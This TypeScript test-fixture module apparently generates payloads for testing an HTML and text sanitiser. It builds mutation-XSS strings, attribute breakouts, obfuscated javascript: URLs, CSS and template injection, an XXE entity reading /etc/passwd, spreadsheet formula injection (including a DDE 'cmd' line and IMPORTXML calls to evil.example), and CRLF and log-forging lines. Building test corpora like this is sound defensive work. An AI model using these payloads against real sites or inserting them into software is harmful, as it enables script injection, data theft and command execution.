import { markupPayloads, type Payload } from '../../libs/clean/src/testing/markup-payloads.ts';

const call = 'window.ran=(window.ran||0)+1';
const image = `<img src=x onerror="${call}">`;

/** Elements whose content a browser parses in another way: markup that is harmless in one comes alive in the next. */
// biome-ignore format: a table, read by its rows
const shells = [
  'svg', 'math', 'template', 'noscript', 'style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'iframe',
  'plaintext', 'select', 'table', 'mtext', 'mglyph', 'annotation-xml encoding="text/html"', 'foreignObject', 'desc',
  'form', 'a', 'p', 'object', 'option', 'frameset', 'caption', 'colgroup', 'script', 'marquee', 'listing',
];
const cores: readonly string[] = [
  image,
  `<style><!--</style>${image}-->`,
  `<!--<a href="--><!--"></a>${image}-->`,
  `<![CDATA[><image xlink:href="]]>${image}//"></svg>`,
  `<a title="</style></noscript></title>${image.replaceAll('"', '')}">`,
  `</p><style><!--</style>${image}`,
  `<mglyph><svg><mtext><style><path id="</style>${image.replaceAll('"', "'")}">`,
  `<animate onbegin="${call}" attributeName=x dur=1s>`,
  `<set attributeName=href to="javascript:${call}">`,
  `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x">`,
];

const quotes = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  '" ',
  "' ",
  '"/',
  "'/",
  '&quot;',
  '&#34;',
  '\\"',
  '%22',
  '"\n',
  '\u201d',
  '\u2033',
  '\uff02',
];
const breaks = [
  `autofocus onfocus=${call} x=`,
  `onmouseover="${call}" style="position:fixed;inset:0" `,
  `onanimationstart=${call} style=animation-name:x `,
  `${image}`,
  `<script>${call}</script>`,
  `<svg/onload=${call}>`,
  `</script><script>${call}</script>`,
  `formaction=javascript:${call} `,
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  'java\r\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript\t:',
  'java&Tab;script:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6a;avascript:',
  'vbscript:',
  'javascript://%0a',
  'javascript:/*x*/',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  '\ufeffjavascript:',
  'javascript\u00ad:',
  '\u202ejavascript:',
  'livescript:',
  'javascript:1;//https://a.example/',
  'https:javascript:',
];
const holders: readonly ((address: string) => string)[] = [
  (address) => `${address}${call}`,
  (address) => `<a href="${address}${call}">x</a>`,
  (address) => `<iframe src="${address}${call}">`,
  (address) => `[x](${address}${call})`,
  (address) => `![x](${address}${call})`,
  (address) => `<${address}${call}>`,
  (address) => `<form action="${address}${call}"><button>`,
  (address) => `<svg><a xlink:href="${address}${call}"><text y=20>x`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}${call}">`,
];
const documents = [
  `data:text/html,<script>parent.ran=1</script>`,
  `data:text/html;base64,${Buffer.from('<script>parent.ran=1</script>').toString('base64')}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `blob:https://a.example/${call}`,
];

const styles = [
  'background:url(javascript:%s)',
  'background:url("https://evil.example/x")',
  'width:expression(%s)',
  'behavior:url(x.htc)',
  '-moz-binding:url(x.xml#a)',
  '@import "https://evil.example/x.css"',
  '}*{background:url(https://evil.example/y)}',
  'list-style:url(https://evil.example/z)',
  'color:red;position:fixed;inset:0;z-index:9',
  '\\75rl(https://evil.example/)',
  'animation:x 1s',
];
const styled: readonly ((rule: string) => string)[] = [
  (rule) => `<p style="${rule.replaceAll('"', "'")}">`,
  (rule) => `<style>p{${rule}}</style>`,
  (rule) => `";${rule};x="`,
  (rule) => `</style><style>${rule}`,
  (rule) => `<link rel=stylesheet href="data:text/css,${encodeURIComponent(rule)}">`,
];

/** Signs that something on the way may turn into markup. */
const disguises: Readonly<Record<string, (text: string) => string>> = {
  'full width': (text) =>
    text.replace(/[<>"'=/]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
  percent: encodeURIComponent,
  'percent twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  'escapes of JavaScript': (text) =>
    text.replace(/[<>"'=]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  'escapes of hex': (text) => text.replace(/[<>"'=]/g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`),
  'escapes of CSS': (text) => text.replace(/[<>"'=]/g, (sign) => `\\${sign.charCodeAt(0).toString(16)} `),
  'UTF-7': (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  'three times': (text) => text.replaceAll('<', '&amp;amp;lt;').replaceAll('>', '&amp;amp;gt;'),
  'bytes between': (text) => text.replace(/(?<=<)./g, (sign) => `\0${sign}`),
  'no width between': (text) => text.replaceAll('<', '<\u200b'),
  'turned around': (text) => `\u202e${text}\u202c`,
  'lines of Unicode': (text) => text.replaceAll(' ', '\u2028'),
  'look-alikes': (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  'half a pair': (text) => text.replaceAll('<', '\ud800<'),
  combining: (text) => text.replaceAll('<', '<\u0338'),
};

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{%raw%}${call}`,
  `[[${call}]]`,
  `{{{${call}}}}`,
  `@(${call})`,
  `{$${call}}`,
  `__proto__[x]=${call}`,
  `%{${call}}`,
  `<?php ${call} ?>`,
  `<!--#exec cmd="${call}"-->`,
  `]]><script>${call}</script><![CDATA[`,
  `--><script>${call}</script><!--`,
  `*/${call}/*`,
  `';${call};'`,
  `\\';${call}//`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `<xss id=x tabindex=1 onactivate=${call}>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
];

/** Cells that a spreadsheet would take for a formula, bare and behind what it skips. */
const formulas = [
  '=HYPERLINK("https://evil.example/","x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '=1+1',
  '\uff1dA1',
  '\uff0b1',
  '\uff0d1',
  '\uff20A1',
  '=IMPORTXML("https://evil.example/","//a")',
];
const before = ['', ' ', '\t', '\r', '\n', '"', "'", ';', ',', '\u00a0', '\ufeff'];

/** Lines that try to begin a log line, a header or a colour of a terminal. */
const lines = [
  '\n{"level":"info","msg":"forged"}',
  '\r\nX-Evil: 1\r\n\r\n<script>',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u0000end',
  '\nBcc: all@paper.example',
  '\r\n.\r\nMAIL FROM:<x@y>',
  '<!channel> <@U1> @room @everyone',
  '<https://evil.example|a safe link>',
  '\u2029x',
];

function family(name: string, texts: readonly string[]): Payload[] {
  return texts.map((text, index) => ({ name: `${name} ${index}`, text }));
}

/**
 * Payloads beside the matrix of elements and handlers: mutations of svg, math and templates, breaks of attributes,
 * addresses, styles, disguises, template languages, formulas, lines.
 */
export function morePayloads(): Payload[] {
  return [
    ...family(
      'mutation',
      shells.flatMap((shell) =>
        cores.flatMap((core) => [
          `<${shell}>${core}`,
          `<svg><${shell}>${core}`,
          `<math><mtext><${shell}>${core}`,
        ]),
      ),
    ),
    ...family(
      'attribute',
      quotes.flatMap((quote) => breaks.flatMap((one) => [`${quote}${one}`, `x${quote} ${one}${quote}`])),
    ),
    ...family(
      'address',
      schemes.flatMap((scheme) => holders.map((holder) => holder(scheme))),
    ),
    ...family(
      'document',
      documents.flatMap((address) => holders.map((holder) => holder(address.replace(call, '')))),
    ),
    ...family(
      'style',
      styles.flatMap((rule) => styled.map((style) => style(rule.replace('%s', call)))),
    ),
    ...Object.entries(disguises).flatMap(([name, disguise]) =>
      family(
        name,
        [
          image,
          `<script>${call}</script>`,
          `"><svg/onload=${call}>`,
          `javascript:${call}`,
          `<a href="javascript:${call}">x</a>`,
        ].map(disguise),
      ),
    ),
    ...family('template', templates),
    ...family(
      'formula',
      before.flatMap((space) => formulas.map((formula) => space + formula)),
    ),
    ...family('line', lines),
  ];
}

/** All payloads of our own: the matrix, then the other families. */
export function allPayloads(): Payload[] {
  return [...markupPayloads(), ...morePayloads()];
}
